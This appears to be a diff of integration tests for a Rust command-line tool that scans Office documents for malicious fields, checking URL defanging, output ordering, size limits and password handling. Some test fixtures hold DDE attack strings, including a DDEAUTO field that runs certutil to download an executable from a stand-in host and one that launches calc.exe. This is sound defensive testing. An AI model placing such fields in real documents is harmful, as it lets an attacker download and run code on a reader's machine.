@@ -4,7 +4,7 @@
 mod support;
 
 use serde_json::Value;
-use support::{Folder, Run, encrypted_zip, harmless, malicious, run, run_with};
+use support::{Folder, Run, encrypted_zip, fields, harmless, malicious, run, run_with};
 
 /// A limit that the documents here do not fit in, so that they are incomplete whatever they hold.
 const TOO_SMALL: &str = "--limits=decoded-bytes=10";
@@ -118,6 +118,90 @@ fn text_gives_the_verdict_first_and_then_what_to_know() {
 }
 
 #[test]
+fn addresses_are_defanged_where_they_are_no_quotation() {
+    let document = fields([
+        r#"DDEAUTO cmd "/c certutil -f http://evil.example.invalid/a.exe" it.em"#,
+        r#"INCLUDETEXT "http://other.example.invalid/b.docx""#,
+    ]);
+    for verbose in ["--color=never", "--verbose"] {
+        let run = run_with(&["scan", verbose, "-"], &document);
+        let said = |label: &str| {
+            let lines = run.out.lines().map(str::trim);
+            lines
+                .filter_map(|line| line.strip_prefix(label))
+                .map(str::trim)
+                .collect::<Vec<_>>()
+        };
+        let quoted = [said("command"), said("in file")].concat();
+        assert_eq!(quoted.len(), 3, "{}", run.out);
+        for line in quoted {
+            assert!(line.contains("http://"), "{line}");
+        }
+        let safe = said("indicators");
+        assert_eq!(safe.len(), 2, "{}", run.out);
+        assert!(safe[0].contains("hxxp://evil[.]example[.]invalid/a.exe"));
+        assert!(safe[1].contains("hxxp://other[.]example[.]invalid/b.docx"));
+        assert_eq!(said("item"), ["it.em"]);
+        for line in run.out.lines().map(str::trim) {
+            let quotes = ["command", "in file", "starts"];
+            if !quotes.iter().any(|label| line.starts_with(label)) {
+                assert!(!line.contains("http://"), "{line}");
+                assert!(!line.contains("example.invalid"), "{line}");
+            }
+        }
+    }
+}
+
+#[test]
+fn what_stands_in_the_file_is_always_shown() {
+    let bad = run_with(&["scan", "-"], &malicious());
+    let quoted = r#"in file     DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#;
+    assert!(bad.out.contains(quoted), "{}", bad.out);
+    let same = fields(["DDEAUTO cmd calc"]);
+    let same = run_with(&["scan", "-"], &same);
+    assert!(
+        same.out.contains("in file     DDEAUTO cmd calc"),
+        "{}",
+        same.out
+    );
+    assert!(!same.out.contains("means"), "{}", same.out);
+}
+
+#[test]
+fn findings_without_effect_are_ordered_by_score() {
+    // More than are shown, the worse ones last.
+    let links: Vec<_> = (0..12)
+        .map(|number| format!(r#"HYPERLINK "https://example.com/{number}""#))
+        .chain((0..4).map(|number| format!(r#"INCLUDEPICTURE "http://example.com/{number}.png""#)))
+        .collect();
+    let document = fields(links.iter().map(String::as_str));
+    let json = run_with(&["scan", "--format=json", "-"], &document);
+    let report: Value = serde_json::from_str(&json.out).unwrap();
+    let mut expected: Vec<u64> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|finding| finding["score"].as_u64().unwrap())
+        .filter(|score| *score < 50)
+        .collect();
+    assert!(expected.len() > 11 && !expected.is_sorted_by(|a, b| a >= b));
+    expected.sort_by(|a, b| b.cmp(a));
+    let text = run_with(&["scan", "-"], &document);
+    let brief: Vec<_> = text.out.lines().filter(|l| l.starts_with("  - ")).collect();
+    assert_eq!(brief.len(), 11, "{}", text.out);
+    for (line, score) in brief.iter().zip(&expected[..10]) {
+        assert!(line.ends_with(&format!(", score {score}")), "{line}");
+    }
+    let more = expected.len() - 10;
+    let worst = expected[10];
+    assert!(
+        brief[10].starts_with(&format!("  - {more} more, the worst with score {worst} ")),
+        "{}",
+        brief[10]
+    );
+}
+
+#[test]
 fn a_limit_gap_names_the_limit_to_raise() {
     let folder = Folder::new();
     let clean = folder.file("clean.docx", &harmless());
@@ -209,6 +293,38 @@ fn an_empty_file_is_clean() {
 }
 
 #[test]
+fn what_is_no_document_is_clean_and_says_so() {
+    let folder = Folder::new();
+    let clean = folder.file("clean.docx", &harmless());
+    let empty = folder.file("empty.docx", b"");
+    let junk = folder.file("junk", b"404 page not found");
+    let line = |path: &str| {
+        let run = run(&["scan", path]);
+        assert_eq!(run.status, 0);
+        run.out.trim_end().to_owned()
+    };
+    assert_eq!(line(&clean), format!("clean       {clean}"));
+    assert_eq!(line(&junk), format!("clean       {junk}  (no document)"));
+    assert_eq!(line(&empty), format!("clean       {empty}  (empty)"));
+    let summary = |paths: &[&str]| {
+        let run = run(&[&["scan"], paths].concat());
+        run.out.lines().last().unwrap().to_owned()
+    };
+    let all = summary(&[folder.root()]);
+    assert!(
+        all.ends_with("3 clean, of which 2 are no documents"),
+        "{all}"
+    );
+    let two = summary(&[&clean, &junk]);
+    assert!(two.ends_with("2 clean, of which 1 is no document"), "{two}");
+    let one = summary(&[&clean, &clean]);
+    assert!(one.ends_with("2 clean"), "{one}");
+    // What was not read may be anything.
+    let unread = run(&["scan", "--limits=input-bytes=3", &junk]);
+    assert!(!unread.out.contains("(no document)"), "{}", unread.out);
+}
+
+#[test]
 fn a_file_above_the_input_limit_is_not_read_to_its_end() {
     let folder = Folder::new();
     let path = folder.path("huge.docx");
@@ -223,9 +339,20 @@ fn a_file_above_the_input_limit_is_not_read_to_its_end() {
     assert_eq!(report["shortened"]["read_bytes"], (1 << 20) + 1);
     assert_eq!(report["shortened"]["file_bytes"], 8_u64 << 30);
     assert_eq!(report["gaps"][0]["kind"], "limit");
+    // Size and checksum are of what was read.
+    assert_eq!(report["document"]["bytes"], (1 << 20) + 1);
+    let read = folder.file("read", &vec![0; (1 << 20) + 1]);
+    let read = run(&["scan", "--format=json", &read]);
+    let read: Value = serde_json::from_str(&read.out).unwrap();
+    assert_eq!(report["document"]["sha256"], read["document"]["sha256"]);
     let text = run(&["scan", "--limits=input-bytes=1m", &path]);
     assert!(text.out.contains("--limits input-bytes=8g"), "{}", text.out);
-    assert!(text.out.contains("of 8589934592 bytes"), "{}", text.out);
+    assert!(
+        text.out
+            .contains("1048577 of 8589934592 bytes were read; size and SHA-256 are of these"),
+        "{}",
+        text.out
+    );
 }
 
 #[test]
@@ -248,6 +375,8 @@ fn quiet_is_silent_about_clean_documents_only() {
     assert!(text.err.contains(&missing));
     let lines = run(&["scan", "--quiet", "--format=jsonl", &clean, &bad, &missing]);
     assert_eq!(names(&rows(&lines)), [&bad, &missing]);
+    let none = run(&["scan", "--quiet", "--format=jsonl", &clean]);
+    assert_eq!((none.out.as_str(), none.status), ("", 0));
     let array = run(&["scan", "--quiet", "--format=json", folder.root(), TOO_SMALL]);
     assert_eq!(
         serde_json::from_str::<Vec<Value>>(&array.out)
@@ -255,6 +384,20 @@ fn quiet_is_silent_about_clean_documents_only() {
             .len(),
         2
     );
+}
+
+#[test]
+fn quiet_json_is_json_whatever_the_verdict() {
+    let folder = Folder::new();
+    let clean = folder.file("clean.docx", &harmless());
+    let json = |path: &str, input: &[u8]| -> Value {
+        let run = run_with(&["scan", "--quiet", "--format=json", path], input);
+        assert_eq!(run.status, 0);
+        serde_json::from_str(&run.out).unwrap()
+    };
+    assert_eq!(json(&clean, b"")["verdict"], "clean");
+    assert_eq!(json("-", &harmless())["verdict"], "clean");
+    assert_eq!(json(folder.root(), b""), Value::Array(Vec::new()));
 }
 
 #[test]
@@ -330,7 +473,21 @@ fn passwords_open_what_is_encrypted() {
     let closed = run(&["scan", &zip]);
     assert_eq!(closed.status, 2, "{}", closed.out);
     assert!(closed.out.contains("--password"), "{}", closed.out);
-    assert_eq!(run(&["scan", "--password=wrong", &zip]).status, 2);
+    let wrong = run(&["scan", "--password=wrong", &zip]);
+    assert_eq!(wrong.status, 2);
+    assert!(
+        wrong
+            .out
+            .contains("the password that was given did not open it"),
+        "{}",
+        wrong.out
+    );
+    let both = run(&["scan", "--password=wrong", "--password=no", &zip]);
+    assert!(
+        both.out.contains("none of the 2 passwords opened it"),
+        "{}",
+        both.out
+    );
     let given = ["scan", "--password=wrong", "--password=s3cret pass ", &zip];
     assert_eq!(run(&given).status, 1);
     assert_eq!(run(&["scan", "--passwords-file", &list, &zip]).status, 1);
@@ -343,6 +500,50 @@ fn passwords_open_what_is_encrypted() {
         "{}",
         refused.err
     );
+}
+
+#[test]
+fn a_list_of_passwords_has_a_size() {
+    let folder = Folder::new();
+    let zip = folder.file("letter.zip", &encrypted_zip("a.docx", &malicious(), "last"));
+    let line = "x".repeat(1023) + "\n";
+    let list = |lines: usize, end: &str| {
+        let mut text = line.repeat(lines);
+        text.truncate(text.len() - end.len());
+        folder.file("list", (text + end).as_bytes())
+    };
+    let fits = list(1024, "\nlast");
+    assert_eq!(run(&["scan", "--passwords-file", &fits, &zip]).status, 1);
+    let too_long = list(1025, "\nlast");
+    let refused = run(&["scan", "--passwords-file", &too_long, &zip]);
+    assert_eq!((refused.status, refused.out.as_str()), (3, ""));
+    assert!(refused.err.contains("more than 1 MiB"), "{}", refused.err);
+    #[cfg(unix)]
+    assert_eq!(
+        run(&["scan", "--passwords-file", "/dev/zero", &zip]).status,
+        3
+    );
+}
+
+#[test]
+fn a_limit_of_nothing_is_advised_upwards() {
+    let folder = Folder::new();
+    let clean = folder.file("clean.docx", &harmless());
+    for limit in ["input-bytes", "decoded-bytes", "parts"] {
+        let setting = format!("--limits={limit}=0");
+        let run = run(&["scan", &setting, &clean]);
+        assert_eq!(run.status, 2, "{limit}");
+        let advice = format!("--limits {limit}=");
+        assert!(run.out.contains(&advice), "{}", run.out);
+        assert!(!run.out.contains(&format!("{advice}0")), "{}", run.out);
+    }
+}
+
+#[test]
+fn a_document_of_a_kind_that_is_not_read_is_no_part() {
+    let run = run_with(&["scan", "-"], b"{\\rtf1 hello}");
+    assert_eq!(run.status, 2);
+    assert!(run.out.contains("look at this document"), "{}", run.out);
 }
 
 #[test]
